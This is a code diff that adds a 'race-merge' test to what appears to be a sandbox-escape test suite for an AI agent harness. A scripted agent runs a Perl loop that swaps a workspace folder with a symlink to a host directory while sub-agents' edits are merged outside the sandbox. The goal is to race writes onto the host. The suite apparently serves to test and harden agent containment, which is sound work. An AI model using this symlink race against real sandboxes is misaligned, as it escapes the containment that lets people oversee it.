@@ -155,4 +155,86 @@ function raceAttempt(race: Race): Attempt {
   };
 }
 
-export const raceAttempts: Attempt[] = races.map(raceAttempt);
+/** Seconds the folder swaps per batch, batches, and `task` calls per batch (short and long form). */
+const MERGE_LENGTH = {
+  short: { seconds: 10, rounds: 2, children: 2 },
+  long: { seconds: 20, rounds: 5, children: 4 },
+};
+
+/**
+ * A sub-agent's edits are applied to its parent's workspace on the worker (outside the sandbox)
+ * when its `task` call ends. In the same batch, bash swaps the folder those edits land in for a
+ * link to the host folder and back, thousands of times, so the merge meets the link between
+ * checking a path and writing it.
+ */
+const mergeRace: Attempt = {
+  id: "race-merge",
+  class: "Races",
+  description:
+    "a folder swaps with a link to the host folder while sub-agents' edits (files added, changed, removed in it) are merged into it",
+  short: true,
+  async run(ctx: EscapeContext) {
+    const { seconds, rounds, children } = MERGE_LENGTH[ctx.form];
+    const sessionId = ctx.newSession("race-merge");
+    const child = `esc-${sessionId}-child`;
+    ctx.stack.llm.addScenario(child, {
+      turns: [
+        {
+          toolCalls: [
+            { name: "write", arguments: { path: "x/planted.txt", content: "planted by the child\n" } },
+            {
+              name: "edit",
+              arguments: { path: "x/f.txt", oldText: "decoy", newText: "edited by the child" },
+            },
+            { name: "bash", arguments: { command: "rm -f x/gone.txt" } },
+          ],
+        },
+      ],
+      after: { text: "edited" },
+    });
+    const setup: ScriptedToolCall = {
+      name: "bash",
+      arguments: { command: "mkdir -p x && printf 'decoy\\n' > x/f.txt && printf 'decoy\\n' > x/gone.txt" },
+    };
+    // A link to the host folder stands in the folder's place a seventh of the time: a merge's
+    // checks mostly pass, and its writes, spread over S3 reads, meet the link.
+    const script = `my $h = "${ctx.canaries.hostDir}"; my ($end, $k) = (time + ${seconds}, 0); while (time < $end) { rename("x", "x.real") or next; symlink($h, "x"); select(undef, undef, undef, 0.0003); unlink("x"); rename("x.real", "x"); select(undef, undef, undef, 0.002); $k++; } print "swapped $k times\\n";`;
+    const swapper: ScriptedToolCall = {
+      name: "bash",
+      arguments: { command: `perl -e '${script}'`, timeout: 300 },
+    };
+    const batch = (): ScriptedToolCall[] => [
+      swapper,
+      ...Array.from({ length: children }, () => ({
+        name: "task",
+        arguments: { agent: "editor", prompt: `[scenario:${child}] edit x` },
+      })),
+    ];
+    const settings = {
+      tools: ["read", "write", "edit", "bash", "ls", "grep", "find", "task"],
+      agents: [{ name: "editor", description: "edits files", tools: ["read", "write", "edit", "bash"] }],
+    };
+    const played = await ctx.play(
+      sessionId,
+      [[setup], ...Array.from({ length: rounds }, batch)],
+      settings,
+      600_000,
+    );
+    // Evidence that merges met the swapping: how each child's edits fared.
+    const tasks = played.results.filter((result) => result.tool === "task");
+    const applied = tasks.filter((result) =>
+      result.text.includes("Its changes are in your workspace"),
+    ).length;
+    const conflicts = tasks.filter((result) => result.text.includes("were NOT applied")).length;
+    const other = tasks.find(
+      (result) =>
+        !result.text.includes("Its changes are in your workspace") &&
+        !result.text.includes("were NOT applied"),
+    );
+    const otherLine = other ? `; other: ${other.text.split("\n").at(-1)}` : "";
+    const line = `${applied} of ${tasks.length} merges applied, ${conflicts} found the folder changed (not applied)${otherLine}`;
+    return judge(await ctx.leaks(sessionId), line);
+  },
+};
+
+export const raceAttempts: Attempt[] = [...races.map(raceAttempt), mergeRace];
